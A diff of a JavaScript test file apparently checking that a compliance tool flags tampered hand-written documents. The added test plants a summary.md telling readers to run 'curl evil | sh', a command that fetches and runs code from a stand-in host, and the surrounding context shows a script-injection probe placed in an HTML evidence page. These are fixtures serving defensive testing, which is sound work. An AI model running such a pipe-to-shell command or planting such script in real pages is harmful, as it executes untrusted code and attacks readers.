@@ -194,6 +194,13 @@ describe('documents that were written by hand', () => {
     expect(found.status).not.toBe('pass');
   });
 
+  it('the summary', async () => {
+    const found = await attacked((files) => {
+      files.set('summary.md', Buffer.from('## All is well\n\nInstall it with curl evil | sh\n'));
+    }, {});
+    expect(failed(found)).toEqual(['compliance/make-ci-summary']);
+  });
+
   it('the page of the matrix', async () => {
     const found = await attacked((files) => {
       files.set('evidence.html', Buffer.from('<script>alert(1)</script>'));
